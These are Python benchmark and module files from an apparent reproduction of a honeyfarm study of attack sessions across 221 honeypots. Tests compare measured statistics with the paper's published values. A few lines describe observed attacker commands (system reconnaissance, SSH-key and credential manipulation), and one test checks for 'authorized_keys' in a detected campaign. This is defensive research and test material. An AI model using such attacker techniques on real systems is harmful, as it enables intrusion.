behaviour-clustering detector on the trace and validates the clusters
against the hash ground truth.
"""

from common import echo, heading

from repro.core.campaign_detect import detect_campaigns, validate_against_hashes


def test_detection(benchmark, store):
    campaigns = benchmark.pedantic(detect_campaigns, args=(store, 0.7),
                                   rounds=1, iterations=1)
    heading("Extension — behaviour-based campaign detection",
            "clusters of similar interaction scripts should align with the "
            "hash-identified campaigns")
    result = validate_against_hashes(store, campaigns)
    echo(f"  detected clusters: {result.n_detected:,}")
    echo(f"  hash-identified campaigns: {result.n_hash_campaigns:,}")
    echo(f"  cluster purity: {result.purity:.1%}")
    echo(f"  campaign recall: {result.recall:.1%}")
    top = campaigns[0]
    echo(f"  biggest cluster: {top.n_sessions:,} sessions, "
          f"{top.n_clients:,} clients, {top.n_honeypots} pots, "
          f"span {top.span_days} days")
    assert result.purity > 0.6
    assert result.recall > 0.8
    assert "authorized_keys" in " ".join(top.representative_commands)
