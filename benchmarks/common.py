"""Printing helpers shared by the benchmark harness.

Each benchmark regenerates one of the paper's tables or figures and prints
the measured rows/series next to the paper's published values, so a run's
output can be compared to the paper by eye.
"""

from __future__ import annotations

import os
from typing import Dict, List, Optional, Sequence

import numpy as np


def workers_from_env() -> Optional[int]:
    """Worker count for dataset generation, from ``REPRO_WORKERS``.

    Unset or empty means the serial single-pass generator; any positive
    integer selects the sharded generator with that many processes.
    """
    raw = os.environ.get("REPRO_WORKERS", "").strip()
    return int(raw) if raw else None

#: Narration collected during the run; the benchmarks' conftest flushes it
#: through the terminal reporter at session end, because pytest's capture
#: would otherwise swallow the paper-vs-measured output of passing tests.
NARRATION: List[str] = []


def echo(line: str = "") -> None:
    """Print a narration line and queue it for the end-of-run summary."""
    print(line)
    NARRATION.append(str(line))


def heading(name: str, paper_note: str) -> None:
    echo(f"\n=== {name} ===")
    echo(f"paper: {paper_note}")


def print_series(name: str, values: np.ndarray, points: int = 8) -> None:
    """Print a daily series at evenly spaced sample days."""
    values = np.asarray(values)
    if len(values) == 0:
        echo(f"{name}: (empty)")
        return
    idx = np.linspace(0, len(values) - 1, points).astype(int)
    samples = ", ".join(f"d{int(i)}={values[i]:.3g}" for i in idx)
    echo(f"{name}: {samples}")


def print_bands(name: str, bands) -> None:
    echo(f"{name}: day-median of [p5, p25, median, p75, p95] = "
          f"[{np.median(bands.p5):.3g}, {np.median(bands.p25):.3g}, "
          f"{np.median(bands.median):.3g}, {np.median(bands.p75):.3g}, "
          f"{np.median(bands.p95):.3g}]")


def print_ecdf(name: str, ecdf, xs: Sequence[float]) -> None:
    if ecdf.n == 0:
        echo(f"{name}: (empty)")
        return
    points = ", ".join(f"F({x:g})={ecdf(x):.3f}" for x in xs)
    echo(f"{name} (n={ecdf.n}): {points}")


def print_top(name: str, counts: Dict, k: int = 8) -> None:
    top = sorted(counts.items(), key=lambda kv: -kv[1])[:k]
    echo(f"{name}: " + ", ".join(f"{key}={value}" for key, value in top))
