"""Figure 19: unique hashes per honeypot vs. session counts."""

import numpy as np
from common import echo, heading

from repro.core.activity import sessions_per_honeypot
from repro.core.hashes import hashes_per_honeypot


def test_fig19(benchmark, occurrences, store):
    per_pot = benchmark.pedantic(hashes_per_honeypot, args=(occurrences,),
                                 rounds=1, iterations=1)
    heading("Figure 19 — unique hashes per honeypot (vs sessions)",
            "the pots with the most unique hashes are not the pots with "
            "the most sessions")
    sessions = sessions_per_honeypot(store)
    top_hashes = set(np.argsort(per_pot)[::-1][:10].tolist())
    top_sessions = set(np.argsort(sessions)[::-1][:10].tolist())
    overlap = len(top_hashes & top_sessions)
    corr = np.corrcoef(per_pot.astype(float), sessions.astype(float))[0, 1]
    echo(f"  top-10 by hashes vs by sessions overlap: {overlap}/10")
    echo(f"  per-pot correlation(hashes, sessions) = {corr:.2f}")
    top10_share = per_pot[np.argsort(per_pot)[::-1][:10]].sum()
    echo(f"  top-10 pots' summed hash observations: {top10_share:,} of "
          f"{occurrences.n_hashes:,} unique hashes")
    assert overlap < 10
    assert corr < 0.9
