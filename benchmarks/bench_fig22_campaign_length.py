"""Figure 22: ECDF of attack-campaign length (active days) by tag."""

from common import heading, print_ecdf

from repro.core.hashes import campaign_length_ecdfs


def test_fig22(benchmark, hash_stats, store, dataset):
    ecdfs = benchmark.pedantic(
        campaign_length_ecdfs, args=(hash_stats, store, dataset.intel),
        rounds=1, iterations=1)
    heading("Figure 22 — campaign length by attack type",
            "most hashes active a single day; trojans linger longest; "
            "mirai-tagged hashes typically <30 days")
    xs = (1, 2, 7, 30, 100, 400)
    for tag in ("ALL", "mirai", "trojan", "malicious"):
        print_ecdf(f"  {tag}", ecdfs[tag], xs)
    assert ecdfs["ALL"](1) > 0.4  # most hashes: one day
    if ecdfs["mirai"].n and ecdfs["trojan"].n:
        assert ecdfs["trojan"].quantile(0.9) >= ecdfs["mirai"].quantile(0.9)
