"""Figure 13: ECDF of the number of days a client IP is observed."""

from common import echo, heading, print_ecdf

from repro.core.clients import days_per_client, days_per_client_ecdfs


def test_fig13(benchmark, store):
    ecdfs = benchmark.pedantic(days_per_client_ecdfs, args=(store,),
                               rounds=1, iterations=1)
    heading("Figure 13 — active days per client IP",
            "most IPs seen a single day; a handful active >90% of days; "
            "CMD+URI clients have the shortest presence")
    xs = (1, 2, 7, 30, 100, 400)
    for cat in ("ALL", "NO_CRED", "FAIL_LOG", "CMD", "CMD_URI"):
        print_ecdf(f"  {cat}", ecdfs[cat], xs)
    all_days = days_per_client(store)
    n_persistent = int((all_days > 0.9 * 486).sum())
    echo(f"  single-day share: {ecdfs['ALL'](1):.1%} (paper >50%)")
    echo(f"  clients active >90% of days: {n_persistent} "
          f"(paper >100 of 2.1M)")
    assert ecdfs["ALL"](1) > 0.45
    assert n_persistent >= 1
    assert ecdfs["CMD_URI"](1) >= ecdfs["ALL"](1) - 0.15
