"""Figure 7: ECDF of session duration by category."""

from common import echo, heading, print_ecdf

from repro.core.durations import duration_ecdfs


def test_fig07(benchmark, store):
    report = benchmark.pedantic(duration_ecdfs, args=(store,),
                                rounds=3, iterations=1)
    heading("Figure 7 — session-duration ECDFs",
            "durations grow with interaction depth; >90% of NO_CMD end at "
            "the 3-minute timeout; some CMD+URI cross 3 minutes")
    xs = (5, 30, 60, 120, 180, 300)
    for cat in ("NO_CRED", "FAIL_LOG", "NO_CMD", "CMD", "CMD_URI"):
        print_ecdf(f"  {cat}", report.ecdfs[cat], xs)
    echo(f"  NO_CMD sessions at idle timeout: "
          f"{report.timeout_share('NO_CMD'):.1%} (paper >90%)")
    assert report.timeout_share("NO_CMD") > 0.85
    assert report.median("NO_CRED") < report.median("CMD")
    assert report.ecdfs["CMD_URI"].survival(180.0) > 0.02
