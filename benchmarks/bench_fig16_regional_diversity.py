"""Figure 16: regional diversity of client/honeypot interactions."""

from common import echo, heading, print_series

from repro.core.classify import classify_store
from repro.core.diversity import (
    BIT_OUT_CONTINENT,
    COMBO_NAMES,
    regional_diversity,
)


def test_fig16(benchmark, store, pot_countries):
    report = benchmark.pedantic(regional_diversity,
                                args=(store, pot_countries),
                                rounds=1, iterations=1)
    heading("Figure 16 — regional diversity (all sessions, and CMD+URI)",
            ">50% of daily client interactions stay entirely out of the "
            "client's continent; CMD+URI shows much more locality")
    for combo, name in COMBO_NAMES.items():
        share = report.share_of(combo)
        if share > 0.005:
            echo(f"  {name:<34} {share:6.1%}")
    print_series("  daily clients", report.daily_clients, points=5)

    codes = classify_store(store)
    uri_report = regional_diversity(store, pot_countries, codes == 4)
    echo(f"  out-of-continent-only: all={report.out_only_share:.1%}, "
          f"CMD+URI={uri_report.out_only_share:.1%} (paper: URI more local)")
    assert report.out_only_share > 0.40
    assert uri_report.out_only_share < report.out_only_share
