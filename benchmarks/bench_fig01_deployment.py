"""Figure 1: presence of 221 honeypots in 55 countries."""

from common import echo, heading, print_top

from repro.farm.deployment import build_default_deployment


def test_fig01(benchmark, dataset):
    plan = benchmark.pedantic(build_default_deployment, rounds=3, iterations=1)
    heading("Figure 1 — honeypot deployment",
            "221 honeypots in 55 countries and 65 ASes; most countries "
            "host one pot, the US and Singapore host several")
    counts = plan.pots_per_country()
    print_top("pots per country", counts, k=10)
    single = sum(1 for v in counts.values() if v == 1)
    echo(f"  countries: {len(counts)}, single-pot countries: {single}, "
          f"ASes: {len(plan.honeypot_asns)}")
    assert plan.n_honeypots == 221
    assert len(counts) == 55
    assert len(plan.honeypot_asns) == 65
    assert counts["US"] == max(counts.values())
