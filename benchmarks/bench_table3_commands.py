"""Table 3: most popular commands (split at ';' and '|')."""

from common import echo, heading

from repro.core.tables import table3_commands


def test_table3(benchmark, store):
    rows = benchmark.pedantic(table3_commands, args=(store, 20),
                              rounds=3, iterations=1)
    heading("Table 3 — most popular commands",
            "information gathering (uname/free/w/cat /proc/cpuinfo), "
            "script execution, remote file access, SSH-key and "
            "credential manipulation")
    for rank, (command, count) in enumerate(rows, start=1):
        shown = command if len(command) <= 60 else command[:57] + "..."
        echo(f"  {rank:2d}. {count:>8,}  {shown}")
    joined = " ".join(c for c, _ in rows)
    assert "uname" in joined
    assert any(k in joined for k in ("free", "cpuinfo"))
