"""Figure 9: per-category daily bands for the top-5% honeypots."""

from common import echo, heading, print_bands

from repro.core.timeseries import category_bands


def test_fig09(benchmark, store):
    bands = benchmark.pedantic(category_bands, args=(store, 0.05),
                               rounds=1, iterations=1)
    heading("Figure 9 — per-category daily bands (top-5% honeypots)",
            "the popular pots see elevated activity in every category; "
            "CMD intense Dec 2021-Jul 2022, dip, then a rise in early 2023")
    for cat, band in bands.items():
        print_bands(f"  {cat}", band)
    cmd = bands["CMD"]
    early = cmd.p75[40:180].mean()
    dip = cmd.p75[250:330].mean()
    late = cmd.p75[420:480].mean()
    echo(f"  CMD p75 early/dip/late: {early:.2f} / {dip:.2f} / {late:.2f}")
    assert early > dip
    assert late > dip
