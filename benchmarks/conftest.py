"""Shared benchmark fixtures.

One scaled trace is generated per pytest session and shared by every
benchmark.  Scale is controlled by ``REPRO_BENCH_SCALE`` (the downscale
denominator vs the paper's 402M sessions; default 1000 -> ~402k sessions,
all 221 honeypots, all 486 days).  Set ``REPRO_WORKERS=N`` to generate the
trace with the sharded multiprocess generator instead of the serial one.
"""

from __future__ import annotations

import os

import pytest

from repro.core.hashes import HashOccurrences, compute_hash_stats
from repro.workload import ScenarioConfig, generate_dataset

DEFAULT_DENOMINATOR = 1000


def bench_config() -> ScenarioConfig:
    denominator = int(os.environ.get("REPRO_BENCH_SCALE", DEFAULT_DENOMINATOR))
    return ScenarioConfig.from_denominator(
        denominator,
        seed=int(os.environ.get("REPRO_BENCH_SEED", 2023)),
    )


@pytest.fixture(autouse=True)
def _bench_stage_metrics(request):
    """Attach a per-test ``stages`` breakdown to benchmark JSON output.

    Snapshots the current metrics registry around each test; whatever
    counters and span timings moved land in the benchmark fixture's
    ``extra_info`` (and hence in ``--benchmark-json`` artefacts) as a
    ``stages`` field.
    """
    from repro.obs import get_metrics

    benchmark = (request.getfixturevalue("benchmark")
                 if "benchmark" in request.fixturenames else None)
    snapshot = get_metrics().to_dict()
    yield
    if benchmark is None:
        return
    delta = get_metrics().delta_since(snapshot)
    if delta["counters"] or delta["spans"]:
        benchmark.extra_info["stages"] = delta


def pytest_sessionfinish(session, exitstatus):
    """Dump the registry (``REPRO_METRICS``) and/or append the benchmark
    trajectory (``REPRO_BENCH_TRAJECTORY``) after a benchmark run."""
    target = os.environ.get("REPRO_METRICS")
    if target and target not in ("-", "1", "stderr"):
        from repro.obs import dump_json, get_metrics

        dump_json(get_metrics(), target)

    trajectory = os.environ.get("REPRO_BENCH_TRAJECTORY")
    if trajectory:
        from repro.obs import get_metrics
        from repro.obs.trajectory import append_record
        from repro.workload.blocks import emit_path

        record = append_record(
            trajectory,
            get_metrics().to_dict(),
            context={
                "source": "benchmarks",
                "scale": os.environ.get("REPRO_BENCH_SCALE",
                                        str(DEFAULT_DENOMINATOR)),
                "workers": os.environ.get("REPRO_WORKERS", "1"),
                "emit_path": emit_path(),
            },
        )
        sps = record["sessions_per_second"]
        shown = f"{sps:,.0f} sessions/sec" if sps else "no generation"
        print(f"\nbenchmark trajectory += {record['commit']} ({shown}) "
              f"-> {trajectory}")


def pytest_terminal_summary(terminalreporter):
    """Flush the paper-vs-measured narration after the benchmark table.

    pytest captures the stdout of passing tests, so the comparisons each
    benchmark prints would otherwise never reach the operator.
    """
    import common

    if not common.NARRATION:
        return
    terminalreporter.section("paper vs measured")
    for line in common.NARRATION:
        terminalreporter.write_line(line)


@pytest.fixture(scope="session")
def dataset():
    """The shared benchmark trace.

    With ``REPRO_CACHE`` (or ``--cache-dir`` semantics via the env var)
    set, repeated benchmark runs at the same scale/seed load the trace
    from the fingerprint cache instead of regenerating it.
    """
    import common

    from repro.workload.cache import resolve_cache_dir

    config = bench_config()
    return generate_dataset(
        config,
        workers=common.workers_from_env(),
        cache=resolve_cache_dir(),
    )


@pytest.fixture(scope="session")
def store(dataset):
    return dataset.store


@pytest.fixture(scope="session")
def occurrences(dataset):
    return HashOccurrences.build(dataset.store)


@pytest.fixture(scope="session")
def hash_stats(occurrences):
    return compute_hash_stats(occurrences)


@pytest.fixture(scope="session")
def campaign_labels(dataset):
    return {c.primary_hash: c.campaign_id for c in dataset.campaigns
            if c.primary_hash}


@pytest.fixture(scope="session")
def pot_countries(dataset):
    return [site.country for site in dataset.deployment.sites]
