"""Figure 4: daily activity bands across all honeypots."""

from common import echo, heading, print_bands

from repro.core.timeseries import bands_all_honeypots, bands_top_honeypots


def test_fig04(benchmark, store):
    bands = benchmark.pedantic(bands_all_honeypots, args=(store,),
                               rounds=3, iterations=1)
    heading("Figure 4 — daily sessions, all honeypots",
            "median tracks the 75%/95% lines; lower percentiles smoother")
    print_bands("all pots", bands)
    top = bands_top_honeypots(store)
    echo(f"  top-5% median vs farm median: "
          f"{top.median.mean():.1f} vs {bands.median.mean():.1f} sessions/day")
    assert top.median.mean() > bands.median.mean()
    # The 5th percentile band is smoother than the 95th (fewer spikes).
    import numpy as np
    assert np.std(np.diff(bands.p5)) < np.std(np.diff(bands.p95))
