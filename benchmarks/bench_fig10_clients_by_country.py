"""Figure 10: honeypot client IPs per country (all, and CMD sessions)."""

import numpy as np
from common import echo, heading, print_top

from repro.core.classify import classify_store
from repro.core.clients import clients_per_country


def test_fig10(benchmark, store):
    counts = benchmark.pedantic(clients_per_country, args=(store,),
                                rounds=3, iterations=1)
    heading("Figure 10 — client IPs per country",
            "CN 31%, IN 9%, US 8%, RU/BR/TW 5%, MX/IR 3%; CMD sessions led "
            "by US/CN/JP/IN/BR")
    total = sum(counts.values())
    top = sorted(counts.items(), key=lambda kv: -kv[1])[:8]
    for country, count in top:
        echo(f"  {country}: {count / total:.1%}")
    codes = classify_store(store)
    cmd_mask = (codes == 3) | (codes == 4)
    cmd_counts = clients_per_country(store, cmd_mask)
    print_top("  CMD+CMD_URI countries", cmd_counts, k=6)

    assert max(counts, key=counts.get) == "CN"
    assert counts["CN"] / total > 0.18
    assert "US" in dict(top)
