"""Table 5: top-20 hashes sorted by number of unique client IPs."""

from common import echo, heading

from repro.core.hashes import top_hash_table


def test_table5(benchmark, store, dataset, hash_stats, campaign_labels):
    rows = benchmark.pedantic(
        top_hash_table, args=(hash_stats, store, dataset.intel, "clients",
                              20, campaign_labels),
        rounds=3, iterations=1)
    heading("Table 5 — top-20 hashes by #client IPs",
            "H1 leads with 118,924 IPs, then H3 (12,698), H21 (5,897), "
            "H22 (2,213); Mirai-family variants populate the mid-ranks")
    for r in rows:
        echo(f"  {r.rank:2d}. {r.hash_label:<10} clients={r.n_clients:>6,} "
              f"sessions={r.n_sessions:>8,} days={r.n_days:>3} "
              f"pots={r.n_honeypots:>3} tag={r.tag}")
    assert rows[0].hash_label == "H1"
    # The paper's ordering of the marquee campaigns by client count must
    # hold farm-wide, independent of which mid-tail rows interleave.
    def clients_of(campaign_id):
        c = dataset.campaign(campaign_id)
        hash_id = store.hashes.id_of(c.primary_hash)
        return int(hash_stats.clients[hash_id])

    assert clients_of("H1") > clients_of("H3") > clients_of("H21") \
        > clients_of("H22")
    # The Mirai family really does spread across its pinned pot subset.
    h24 = dataset.campaign("H24")
    h24_pots = int(hash_stats.honeypots[store.hashes.id_of(h24.primary_hash)])
    echo(f"  H24 (mirai family): {clients_of('H24')} clients, "
          f"{h24_pots} pots (pinned subset of 77)")
    assert h24_pots <= 77
