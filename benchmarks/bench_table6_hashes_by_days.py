"""Table 6: top-20 hashes sorted by number of active days."""

from common import echo, heading

from repro.core.hashes import top_hash_table


def test_table6(benchmark, store, dataset, hash_stats, campaign_labels):
    rows = benchmark.pedantic(
        top_hash_table, args=(hash_stats, store, dataset.intel, "days",
                              20, campaign_labels),
        rounds=3, iterations=1)
    heading("Table 6 — top-20 hashes by #active days",
            "H1 active 484/486 days; long-lived mirai variants and "
            "few-IP trojans (H38/H40/H41 run by 3-5 IPs for months)")
    for r in rows:
        echo(f"  {r.rank:2d}. {r.hash_label:<10} days={r.n_days:>3} "
              f"clients={r.n_clients:>6,} sessions={r.n_sessions:>8,} "
              f"pots={r.n_honeypots:>3} tag={r.tag}")
    assert rows[0].hash_label == "H1"
    assert rows[0].n_days > 400
    # Few-IP long-lived campaigns are visible in the top-20.
    assert any(r.n_clients <= 5 and r.n_days >= 60 for r in rows)
