"""Table 1: percentage of sessions per category and protocol split."""

from common import echo, heading

from repro.core.tables import table1_categories

PAPER = {"NO_CRED": 0.277, "FAIL_LOG": 0.42, "NO_CMD": 0.116,
         "CMD": 0.18, "CMD_URI": 0.007}
PAPER_SSH = {"NO_CRED": 0.2182, "FAIL_LOG": 0.9924, "NO_CMD": 0.9830,
             "CMD": 0.9369, "CMD_URI": 0.6245}


def test_table1(benchmark, store):
    t1 = benchmark.pedantic(table1_categories, args=(store,),
                            rounds=3, iterations=1)
    heading("Table 1 — session categories",
            "NO_CRED 27.7% / FAIL_LOG 42% / NO_CMD 11.6% / CMD 18% / "
            "CMD+URI 0.7%; SSH 75.83% overall")
    for cat, paper in PAPER.items():
        echo(f"  {cat:<9} paper {paper:6.1%}  measured {t1.overall[cat]:6.1%}  "
              f"| SSH share paper {PAPER_SSH[cat]:6.1%} "
              f"measured {t1.ssh_share_of_category[cat]:6.1%}")
    echo(f"  SSH total: paper 75.8%  measured {t1.protocol_totals['ssh']:.1%}")
    assert abs(t1.overall["FAIL_LOG"] - PAPER["FAIL_LOG"]) < 0.05
    assert abs(t1.protocol_totals["ssh"] - 0.758) < 0.05
