"""Figure 17: unique hashes per day and the fresh-hash fraction."""

import numpy as np
from common import echo, heading, print_series

from repro.core.freshness import freshness_report


def test_fig17(benchmark, occurrences):
    report = benchmark.pedantic(freshness_report, args=(occurrences,),
                                rounds=1, iterations=1)
    heading("Figure 17 — hash freshness",
            "daily unique hashes vary tens..3000; fresh share 2-60%; "
            "shrinking memory (all -> 30d -> 7d) raises the fresh share")
    print_series("  unique hashes/day", report.unique_per_day, points=6)
    frac_all = report.fresh_fraction()
    frac_30 = report.fresh_fraction(30)
    frac_7 = report.fresh_fraction(7)
    active = report.unique_per_day > 0
    echo(f"  mean fresh share: all-time {frac_all[active].mean():.1%}, "
          f"30d {frac_30[active].mean():.1%}, 7d {frac_7[active].mean():.1%}")
    echo(f"  fresh-share range (all-time): "
          f"{frac_all[active].min():.1%} .. {frac_all[active].max():.1%}")
    assert frac_7[active].mean() >= frac_30[active].mean() >= frac_all[active].mean()
    assert frac_all[active].max() > 0.2  # fresh attacks appear all the time
    assert report.unique_per_day.max() > 3 * max(report.unique_per_day.mean(), 1)
