"""The honeyfarm's central collector.

Every honeypot reports per-session summaries to the collector, which stamps
client geolocation (country / ASN via the geo registry — the role MaxMind
plays in the paper) and appends the record to the columnar store.  It also
keeps a few running counters that operators watch on dashboards.
"""

from __future__ import annotations

from typing import Dict, Optional

from repro.geo.registry import GeoRegistry
from repro.honeypot.events import HoneypotEvent
from repro.honeypot.session import SessionSummary
from repro.obs import trace as _trace
from repro.store.records import SessionRecord
from repro.store.store import SessionStore, StoreBuilder


class FarmCollector:
    """Central sink for session summaries (and optionally raw events)."""

    def __init__(self, registry: Optional[GeoRegistry] = None, keep_events: bool = False):
        self.registry = registry
        self.builder = StoreBuilder()
        self.keep_events = keep_events
        self.events: list = []
        self.sessions_by_honeypot: Dict[str, int] = {}
        self.sessions_total = 0

    # -- sinks (plug into Honeypot) -----------------------------------------

    def on_event(self, event: HoneypotEvent) -> None:
        if self.keep_events:
            self.events.append(event)

    def on_summary(self, summary: SessionSummary) -> None:
        """Geo-stamp and store one finished session."""
        asn, country = -1, ""
        if self.registry is not None:
            lookup = self.registry.lookup(summary.client_ip)
            if lookup is not None:
                asn, country = lookup.asn, lookup.country
        record = SessionRecord.from_summary(summary, client_asn=asn, client_country=country)
        self.builder.append(record)
        self.sessions_total += 1
        self.sessions_by_honeypot[summary.honeypot_id] = (
            self.sessions_by_honeypot.get(summary.honeypot_id, 0) + 1
        )
        _trace.emit("collector.summary", trace_id=f"session:{summary.session_id}",
                    sim_time=summary.end_time, sensor=summary.honeypot_id,
                    hashes=len(summary.file_hashes))

    def add_record(self, record: SessionRecord) -> None:
        """Store a pre-built record (bulk generation path)."""
        self.builder.append(record)
        self.sessions_total += 1
        self.sessions_by_honeypot[record.honeypot_id] = (
            self.sessions_by_honeypot.get(record.honeypot_id, 0) + 1
        )

    # -- results ----------------------------------------------------------------

    def merge(self, other: "FarmCollector") -> None:
        """Fold another collector's sessions and counters into this one.

        Lets several collectors run independently (one per worker, or one
        per honeypot group) and be combined afterwards; interned string ids
        are remapped by the store layer during adoption.
        """
        self.builder.adopt(other.builder)
        self.sessions_total += other.sessions_total
        for pot, count in other.sessions_by_honeypot.items():
            self.sessions_by_honeypot[pot] = (
                self.sessions_by_honeypot.get(pot, 0) + count
            )
        if self.keep_events:
            self.events.extend(other.events)
        _trace.emit("collector.merge", sessions=other.sessions_total,
                    honeypots=len(other.sessions_by_honeypot))

    def build_store(self) -> SessionStore:
        return self.builder.build()
