"""Honeyfarm deployment plan.

The studied farm runs 221 honeypots in 55 countries and 65 ASes.  Most
countries host a single honeypot; a few (e.g. the US and Singapore) host
many.  The paper anonymises the exact layout, so we synthesise one with the
published shape: 55 countries, 65 ASes, a residential-network focus, and a
skewed pots-per-country distribution.  Honeypot IPs are freshly allocated
(never previously used as honeypots — they come out of our synthetic
registry untouched), matching the paper's note about fresh address space.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List, Optional

from repro.geo.registry import GeoRegistry, NetworkType
from repro.honeypot.honeypot import Honeypot, HoneypotConfig
from repro.simulation.rng import RngStream

#: Countries hosting honeypots, with the number of pots each hosts.
#: 55 countries, totalling 221 honeypots. The multi-pot countries follow the
#: paper's note that the US and Singapore host several.
HONEYPOT_COUNTRIES: Dict[str, int] = {
    # Heavily provisioned countries (the paper singles out the US and SG).
    "US": 50, "SG": 20, "DE": 15, "GB": 12, "NL": 11, "FR": 10, "JP": 9,
    "CA": 8, "AU": 7, "BR": 7, "IN": 7, "KR": 6, "IT": 5, "ES": 5,
    # A handful of two-pot countries.
    "SE": 2, "PL": 2, "CH": 2, "AT": 2, "BE": 2, "CZ": 2, "DK": 2,
    "FI": 2,
    # Most countries host exactly one honeypot (paper Figure 1).
    "NO": 1, "IE": 1, "PT": 1, "GR": 1, "HU": 1, "RO": 1, "BG": 1,
    "LT": 1, "UA": 1, "TR": 1, "IL": 1, "AE": 1, "HK": 1, "TW": 1,
    "TH": 1, "MY": 1, "ID": 1, "PH": 1, "VN": 1, "MX": 1, "AR": 1,
    "CL": 1, "CO": 1, "ZA": 1, "EG": 1, "KE": 1, "NG": 1, "MA": 1,
    "NZ": 1, "RU": 1, "SK": 1, "EE": 1, "LV": 1,
}

#: Number of distinct ASes hosting honeypots.
HONEYPOT_AS_COUNT = 65


@dataclass
class HoneypotSite:
    """Placement of one honeypot."""

    honeypot_id: str
    ip: int
    country: str
    asn: int
    network_type: NetworkType


@dataclass
class DeploymentPlan:
    """The full farm layout plus the geo registry it lives in."""

    sites: List[HoneypotSite]
    registry: GeoRegistry
    honeypot_asns: List[int] = field(default_factory=list)

    @property
    def n_honeypots(self) -> int:
        return len(self.sites)

    @property
    def countries(self) -> List[str]:
        return sorted({site.country for site in self.sites})

    def pots_per_country(self) -> Dict[str, int]:
        counts: Dict[str, int] = {}
        for site in self.sites:
            counts[site.country] = counts.get(site.country, 0) + 1
        return counts

    def site_by_id(self, honeypot_id: str) -> HoneypotSite:
        for site in self.sites:
            if site.honeypot_id == honeypot_id:
                return site
        raise KeyError(honeypot_id)

    def build_honeypots(self, **honeypot_kwargs) -> List[Honeypot]:
        """Instantiate a live :class:`Honeypot` per site."""
        return [
            Honeypot(
                HoneypotConfig(
                    honeypot_id=site.honeypot_id,
                    ip=site.ip,
                    country=site.country,
                    asn=site.asn,
                ),
                **honeypot_kwargs,
            )
            for site in self.sites
        ]


def build_default_deployment(
    rng: Optional[RngStream] = None,
    registry: Optional[GeoRegistry] = None,
    countries: Optional[Dict[str, int]] = None,
    n_ases: int = HONEYPOT_AS_COUNT,
) -> DeploymentPlan:
    """Build the 221-pot / 55-country / 65-AS deployment.

    ASes are spread so that every country has at least one hosting AS and
    countries with many pots get proportionally more; within an AS, pot IPs
    are allocated sequentially from the AS's prefix (matching how a hosting
    order would be fulfilled).
    """
    rng = rng or RngStream(2021, "deployment")
    registry = registry or GeoRegistry()
    countries = dict(countries or HONEYPOT_COUNTRIES)

    n_countries = len(countries)
    if n_ases < n_countries:
        raise ValueError(
            f"need at least one AS per country ({n_countries}), got {n_ases}"
        )

    # One AS per country, then extra ASes for the countries with most pots.
    as_counts = {cc: 1 for cc in countries}
    extra = n_ases - n_countries
    by_pots = sorted(countries, key=lambda cc: -countries[cc])
    i = 0
    while extra > 0:
        cc = by_pots[i % len(by_pots)]
        # Only countries with more pots than ASes benefit from another AS.
        if countries[cc] > as_counts[cc]:
            as_counts[cc] += 1
            extra -= 1
        i += 1
        if i > 10_000:  # all countries saturated; dump remainder on the top one
            as_counts[by_pots[0]] += extra
            extra = 0

    # Residential focus: ~70% residential, rest business/datacenter.
    type_cycle = [
        NetworkType.RESIDENTIAL,
        NetworkType.RESIDENTIAL,
        NetworkType.RESIDENTIAL,
        NetworkType.BUSINESS,
        NetworkType.RESIDENTIAL,
        NetworkType.DATACENTER,
        NetworkType.RESIDENTIAL,
    ]

    country_ases: Dict[str, List] = {}
    asn_index = 0
    for cc in sorted(countries):
        records = []
        for _ in range(as_counts[cc]):
            ntype = type_cycle[asn_index % len(type_cycle)]
            records.append(
                registry.register_as(
                    country=cc,
                    network_type=ntype,
                    name=f"HPNET-{cc}-{asn_index}",
                )
            )
            asn_index += 1
        country_ases[cc] = records

    sites: List[HoneypotSite] = []
    pools: Dict[int, object] = {}
    pot_index = 1
    for cc in sorted(countries):
        records = country_ases[cc]
        for k in range(countries[cc]):
            record = records[k % len(records)]
            pool = pools.get(record.asn)
            if pool is None:
                pool = record.pool()
                pools[record.asn] = pool
            # Skip the network's first few addresses (gateway etc.).
            if pool.used_count == 0:
                for _ in range(10):
                    pool.allocate_sequential()
            ip = pool.allocate_sequential()
            sites.append(
                HoneypotSite(
                    honeypot_id=f"hp-{pot_index:03d}",
                    ip=ip,
                    country=cc,
                    asn=record.asn,
                    network_type=record.network_type,
                )
            )
            pot_index += 1

    honeypot_asns = sorted({site.asn for site in sites})
    return DeploymentPlan(sites=sites, registry=registry, honeypot_asns=honeypot_asns)
