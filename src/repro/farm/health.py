"""Live farm health: liveness, drift baselines, and fresh-hash alerts.

The paper's honeyfarm was an *operated* system — GCA staff watched 221
Cowrie pots for liveness and ran a notification pipeline keyed on freshly
observed file hashes.  This module is that operational layer for the
reproduction: a :class:`FarmHealthMonitor` consumes the live event stream
(honeypot event sink, or flight-recorder events fed from a tailed JSONL
trace) and maintains

* **per-honeypot liveness** — a pot silent longer than the timeout raises
  a ``liveness-down`` alert (and ``liveness-recovered`` when it returns);
* **session-rate drift** — per-interval farm session counts tracked with
  an EWMA mean/variance baseline; intervals whose z-score exceeds the
  threshold raise ``rate-drift`` alerts;
* **category-mix drift** — the per-interval share of each session category
  against its own EWMA baseline, z-scored the same way;
* **fresh-hash alerts** — a never-before-seen file hash raises a
  ``fresh-hash`` alert and renders the paper's notification artefact
  (:class:`repro.core.notify.FreshHashNotice`).

Interval statistics land in the metrics registry through *capped*
histograms (:meth:`Metrics.histogram` with a reservoir cap), so a
monitor attached to a million-session run holds bounded memory.
"""

from __future__ import annotations

import math
from dataclasses import dataclass, field
from typing import Any, Dict, Iterable, List, Optional

from repro.core.notify import FreshHashNotice
from repro.honeypot.events import HoneypotEvent
from repro.obs import get_ledger, get_metrics

#: Session categories the mix-drift baseline tracks (the paper's taxonomy).
CATEGORIES = ("NO_CRED", "FAIL_LOG", "NO_CMD", "CMD", "CMD_URI")

#: Bulk-path block categories mapped onto the taxonomy (shared with the
#: streaming analytics consumer, which classifies block events the same way).
BLOCK_CATEGORY = {
    "no_cred": "NO_CRED", "fail_log": "FAIL_LOG", "no_cmd": "NO_CMD",
    "bg_cmd": "CMD", "bg_uri": "CMD_URI", "singletons": "CMD",
}
_BLOCK_CATEGORY = BLOCK_CATEGORY


@dataclass
class HealthConfig:
    """Knobs of the monitor (defaults suit the live/demo time scale)."""

    #: Seconds a watched pot may stay silent before it counts as down.
    liveness_timeout: float = 900.0
    #: Width of one rate/mix statistics interval (simulation seconds).
    interval: float = 60.0
    #: EWMA smoothing factor for the drift baselines.
    ewma_alpha: float = 0.3
    #: |z| beyond which an interval raises a drift alert.
    z_threshold: float = 3.0
    #: Intervals observed before drift alerts may fire (baseline warm-up).
    warmup_intervals: int = 5
